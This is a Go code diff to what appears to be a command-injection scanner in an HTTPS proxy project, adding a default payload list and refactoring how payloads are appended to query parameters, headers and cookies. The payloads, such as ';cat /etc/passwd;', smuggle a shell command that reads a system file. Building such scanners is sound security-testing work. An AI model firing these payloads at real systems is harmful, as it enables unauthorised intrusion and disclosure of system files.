@@ -7,6 +7,12 @@ import (
 	"github.com/daronenko/https-proxy/internal/model"
 )
 
+var DefaultCmdInjectionPayloads = []string{
+	";cat /etc/passwd;",
+	"|cat /etc/passwd|",
+	"`cat /etc/passwd`",
+}
+
 type CmdInjection struct {
 	Payloads []string
 }
@@ -25,9 +31,9 @@ func (s CmdInjection) Scan(original model.Request, try func(*http.Request) bool)
 		{
 			Name: "GET param",
 			Iter: func(payload string) {
-				for k, v := range original.QueryParams {
+				for k := range original.QueryParams {
 					mod := original.Clone()
-					mod.QueryParams[k] = v + payload
+					mod.QueryParams.Set(k, original.QueryParams.Get(k)+payload)
 					req, _ := http.NewRequest(mod.Method, model.BuildURL(mod), bytes.NewReader(mod.Body))
 					copyHeadersCookies(req, &mod)
 					if try(req) {
@@ -60,9 +66,9 @@ func (s CmdInjection) Scan(original model.Request, try func(*http.Request) bool)
 		{
 			Name: "Header",
 			Iter: func(payload string) {
-				for k, v := range original.Headers {
+				for k := range original.Headers {
 					mod := original.Clone()
-					mod.Headers[k] = v + payload
+					mod.Headers.Set(k, original.Headers.Get(k)+payload)
 					req, _ := http.NewRequest(mod.Method, model.BuildURL(mod), bytes.NewReader(mod.Body))
 					copyHeadersCookies(req, &mod)
 					if try(req) {
@@ -75,9 +81,9 @@ func (s CmdInjection) Scan(original model.Request, try func(*http.Request) bool)
 		{
 			Name: "Cookie",
 			Iter: func(payload string) {
-				for k, v := range original.Cookies {
+				for k := range original.Cookies {
 					mod := original.Clone()
-					mod.Cookies[k] = v + payload
+					mod.Cookies.Set(k, original.Cookies.Get(k)+payload)
 					req, _ := http.NewRequest(mod.Method, model.BuildURL(mod), bytes.NewReader(mod.Body))
 					copyHeadersCookies(req, &mod)
 					if try(req) {
@@ -99,11 +105,15 @@ func (s CmdInjection) Scan(original model.Request, try func(*http.Request) bool)
 }
 
 func copyHeadersCookies(req *http.Request, r *model.Request) {
-	for k, v := range r.Headers {
-		req.Header.Set(k, v)
+	for k, values := range r.Headers {
+		for _, v := range values {
+			req.Header.Add(k, v)
+		}
 	}
 
-	for name, val := range r.Cookies {
-		req.AddCookie(&http.Cookie{Name: name, Value: val})
+	for name, values := range r.Cookies {
+		for _, val := range values {
+			req.AddCookie(&http.Cookie{Name: name, Value: val})
+		}
 	}
 }